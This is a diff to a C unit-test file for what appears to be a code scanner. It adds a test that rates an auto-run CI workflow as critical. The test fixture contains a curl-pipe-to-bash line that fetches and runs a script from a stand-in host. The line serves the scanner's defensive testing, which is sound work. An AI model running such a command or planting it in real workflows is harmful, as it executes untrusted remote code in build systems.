@@ -281,6 +281,31 @@ START_TEST(path_rules)
 }
 END_TEST
 
+START_TEST(autorun_with_dangerous_content_is_critical)
+{
+	struct finding_list fl;
+	const struct finding *f;
+
+	scan_str(".github/workflows/ci.yml", "on: push\n", &fl);
+	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, SEV_MEDIUM);
+	finding_list_free(&fl);
+	scan_str(".github/workflows/ci.yml", "on: push\nsteps:\n"
+	    "  - run: curl -s https://x.example | bash\n", &fl);
+	f = tu_first(&fl, "workflow");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_int_eq(f->severity, SEV_CRITICAL);
+	ck_assert_str_eq(f->excerpt, "runs automatically and contains curl-sh "
+	    "(critical) at line 3");
+	/* The rule itself keeps its own severity for other files. */
+	ck_assert_int_eq(f->rule->severity, SEV_MEDIUM);
+	finding_list_free(&fl);
+	/* A secret in a workflow is not "reaching the network". */
+	scan_str(".github/workflows/ci.yml", "env:\n  T: " TOKEN "\n", &fl);
+	ck_assert_int_eq(tu_first(&fl, "workflow")->severity, SEV_MEDIUM);
+	finding_list_free(&fl);
+}
+END_TEST
+
 START_TEST(path_scoped_pattern)
 {
 	const char *pkg = "{\"scripts\": {\"postinstall\": \"node x.js\"}}\n";
@@ -431,7 +456,7 @@ START_TEST(finding_cap_is_unscannable)
 	tu_scan(&sc, "flood.txt", buf, n * len, &fl);
 	ck_assert_uint_eq(tu_count(&fl, AL_RULE_UNSCANNABLE), 1);
 	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), AL_MAX_FINDINGS_PER_FILE);
-	ck_assert_int_eq(tu_first(&fl, AL_RULE_UNSCANNABLE)->rule->severity,
+	ck_assert_int_eq(tu_first(&fl, AL_RULE_UNSCANNABLE)->severity,
 	    SEV_HIGH);
 	finding_list_free(&fl);
 	free(buf);
@@ -515,6 +540,7 @@ engine_suite(void)
 	tc = tcase_create("paths");
 	tcase_add_checked_fixture(tc, setup, teardown);
 	tcase_add_test(tc, path_rules);
+	tcase_add_test(tc, autorun_with_dangerous_content_is_critical);
 	tcase_add_test(tc, path_scoped_pattern);
 	suite_add_tcase(s, tc);
 	tc = tcase_create("output");
